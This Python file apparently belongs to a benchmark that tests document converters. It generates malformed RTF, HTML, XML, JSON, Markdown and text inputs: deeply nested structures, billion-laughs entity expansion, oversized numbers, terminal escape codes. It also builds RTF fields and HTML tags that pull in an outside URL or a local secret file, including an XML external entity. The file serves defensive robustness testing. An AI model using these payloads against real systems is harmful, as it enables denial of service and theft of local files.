"""RTF, HTML, JSON, Markdown and plain text without end."""

from bench.attacks.attack import Bait, attack, lure


@attack("deep-braces.rtf", 10_000)
@attack("million-braces.rtf", 1_000_000, quick=False)
@attack("closing-braces.rtf", -5_000)
def braces(depth: int) -> bytes:
    """Groups inside each other; a negative depth closes groups that were never opened."""
    return (
        b"{\\rtf1\\ansi text " + (b"{\\b " * depth + b"in" + b"}" * depth if depth > 0 else b"}" * -depth) + b" after}"
    )


@attack("binary-of-2-gb.rtf", b"\\bin2147483647 ")
@attack("binary-negative.rtf", b"\\bin-1 ")
@attack("numbers.rtf", b"\\u99999999999 \\u-99999 \\uc999999999\\u8364 ? \\'zz\\'8 \\fs" + b"9" * 5000 + b" ")
@attack(
    "objects.rtf",
    b"{\\object\\objdata " + b"01" * 100_000 + b"}{\\pict\\pngblip\\picw99999999 89504e47" + b"0" * 9_999 + b"}",
)
@attack("long-word.rtf", b"\\" + b"a" * 1_000_000 + b" ")
@attack(
    "charsets.rtf",
    b"{\\fonttbl{\\f0\\fcharset999 x;}{\\f9999999\\fcharset-1 y;}}\\ansicpg99999\\f0 \\'e4\\f9999999 \\'e4 \\f77 \\'e4",
)
@attack(
    "tables.rtf",
    b"\\trowd"
    + b"\\cellx999999999" * 5_000
    + b"\\intbl a\\cell" * 5_000
    + b"\\row" * 100
    + b"\\itap99999999 x\\nestcell",
)
def odd_rtf(middle: bytes) -> bytes:
    """Words of control with numbers beyond all sense."""
    return b"{\\rtf1\\ansi before " + middle + b" after}"


@lure("fields.rtf")
def rtf_fields(bait: Bait) -> bytes:
    """Fields and templates that lie elsewhere."""
    file, url = str(bait.secret).encode(), bait.url.encode()
    return (
        b'{\\rtf1\\ansi{\\*\\template %s}before {\\field{\\*\\fldinst INCLUDETEXT "%s"}{\\fldrslt r}}'
        b'{\\field{\\*\\fldinst INCLUDEPICTURE "%s/p"}{\\fldrslt p}} after}' % (url, file, url)
    )


@attack("slow-colours.rtf", quick=False)
def long_rtf() -> bytes:
    """Two million control words."""
    return b"{\\rtf1\\ansi " + b"\\b\\i0 x" * 2_000_000 + b"}"


@attack("deep-elements.html", 10_000)
@attack("million-elements.html", 1_000_000, quick=False)
def deep_html(depth: int) -> bytes:
    """Elements inside each other."""
    return b"<html><body>before " + b"<div>" * depth + b"in" + b"</div>" * depth + b" after</body></html>"


@attack("deep-tables.html", b"<table><tr><td>", 3_000)
@attack("deep-lists.html", b"<ul><li>x", 3_000)
@attack("deep-formatting.html", b"<b><i><font><a href=x>", 3_000, quick=False)
@attack("deep-quotes.html", b"<blockquote><p>x", 3_000)
def unclosed(start: bytes, depth: int) -> bytes:
    """Elements that are never closed."""
    return b"<html><body>before " + start * depth + b" after"


@attack("million-attributes.html", quick=False)
def many_attributes() -> bytes:
    """Attributes without end."""
    return b"<html><body><p " + b" ".join(b'a%d="x"' % n for n in range(1_000_000)) + b">text</p></body></html>"


@attack("spans.html")
def spans() -> bytes:
    """Cells that claim billions of columns and rows."""
    cell = b'<td colspan="2000000000" rowspan="2000000000">c</td><td colspan="-5" rowspan="x">d</td>'
    return b"<html><body><table>" + b"<tr>" + cell * 20 + b"</tr>" * 50 + b"</table></body></html>"


@lure("reaching-out.html")
def reaching(bait: Bait) -> bytes:
    """Frames, pictures, styles, scripts and forwards to elsewhere."""
    url, file = bait.url.encode(), bait.secret.as_uri().encode()
    tags = (
        b'<base href="%s/">', b'<meta http-equiv="refresh" content="0;url=%s/r">', b'<link rel="stylesheet" href="%s/s">',
        b'<script src="%s/j"></script>', b'<img src="%s/i" srcset="%s/k 2x">', b'<iframe src="%s/f"></iframe>',
        b'<object data="%s/o"></object>', b'<embed src="%s/e">', b'<video poster="%s/v"></video>', b'<p style="background:url(%s/b)">x</p>',
    )  # fmt: skip
    lines = b"".join(tag.replace(b"%s", target) for tag in tags for target in (url, file))
    doctype = b'<!DOCTYPE html SYSTEM "%s/dtd" [<!ENTITY x SYSTEM "%s">]>' % (url, file)
    return doctype + b"<html><head></head><body>before " + lines + b"&x; after</body></html>"


@attack("laughs.xhtml")
def laughs() -> bytes:
    """Entities of entities in a page."""
    rows = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "lol">{rows}]><html><body>x &l11;</body></html>'.encode()


@attack("laughs.xml")
def plain_laughs() -> bytes:
    """The same as plain XML."""
    return laughs().replace(b"html", b"root")


@attack("deep.json", b"[", b"]", 100_000)
@attack("deep-objects.json", b'{"a":', b"}", 100_000)
@attack("million-deep.json", b"[", b"]", 1_000_000, quick=False)
def deep_json(before: bytes, after: bytes, depth: int) -> bytes:
    """Lists or objects inside each other."""
    return before * depth + b"1" + after * depth


@attack("long-number.json", b'{"a": ' + b"9" * 1_000_000 + b"}")
@attack("odd-numbers.json", b'{"a": [NaN, Infinity, 1e999999, -0], "a": "\\ud800", "\\u0000": "\\u0000"}')
@attack("cut-off.json", b'{"a": [1, 2, {"b": "c')
@attack("same-keys.json", b"{" + b'"k": [1],' * 100_000 + b'"k": 1}')
def odd_json(data: bytes) -> bytes:
    """JSON that other readers trip over."""
    return data


@attack("deep-quotes.md", b">" * 50_000 + b" text")
@attack("deep-lists.md", b"".join(b" " * n + b"- x\n" for n in range(1_000)))
@attack("brackets.md", b"[" * 50_000 + b"](" * 50_000)
@attack("stars.md", b"*a_ **b__ " * 20_000)
@attack("pipes.md", b"|" * 50_000 + b"\n" + b"|-" * 50_000 + b"\n" + b"|x" * 50_000)
@attack("ticks.md", b"".join(b"`" * (n % 300) + b"x" for n in range(20_000)))
def odd_markdown(data: bytes) -> bytes:
    """Markdown that makes slow readers try every way."""
    return data


@attack("half-pairs.txt", b"\xff\xfe" + b"\x00\xd8" * 5_000 + b"a")
@attack("both-marks.txt", b"\xfe\xff\xff\xfe" * 5_000)
@attack("mark-only.txt", b"\xff\xfe")
@attack("mark-and-nul.txt", b"\xef\xbb\xbf" + b"\xc0\x80\xf8\x88" * 5_000)
@attack("directions.txt", "\u202e\u2066\u200f\u0301".encode() * 20_000)
@attack("controls.txt", b"text \x1b]0;x\x07\x1b[31m" + b"text " * 2_000 + b"\x0c" * 99)
@attack("utf-32.txt", "text ".encode("utf-32"))
@attack("turns-binary.txt", b"text " * 2_000 + bytes(range(256)) * 500)
@attack("one-line.txt", b"word " * 6_000_000, quick=False)
@attack("one-word.txt", b"w" * 30_000_000, quick=False)
def odd_text(data: bytes) -> bytes:
    """Text of odd codes and lengths."""
    return data
